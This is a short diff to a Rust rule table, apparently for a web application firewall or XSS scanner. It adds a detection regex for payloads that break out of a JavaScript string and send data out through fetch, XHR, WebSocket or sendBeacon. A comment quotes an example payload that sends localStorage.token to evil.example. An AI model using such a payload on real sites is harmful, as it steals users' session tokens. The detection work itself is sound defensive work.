@@ -413,6 +413,15 @@ pub const BUILTIN: &[Rule] = &[
         C::None,
         MARKUP,
     ),
+    // A quote that ends the application's JavaScript string, an operator, and a request that
+    // carries data out (`';fetch('//evil.example/'+localStorage.token)//`).
+    rule(
+        "xss.js-breakout",
+        Xss,
+        r"['\x22\x60] ?[;+\-*/|&,)]{1,3} ?\(? ?(?:fetch ?[(\x60]|new (?:image|xmlhttprequest|websocket|eventsource)\b|\$ ?\. ?(?:getscript|get|post|ajax) ?\(|postmessage ?\(|navigator ?\. ?sendbeacon ?\()",
+        C::None,
+        MARKUP,
+    ),
     rule(
         "xss.template-injection",
         Xss,
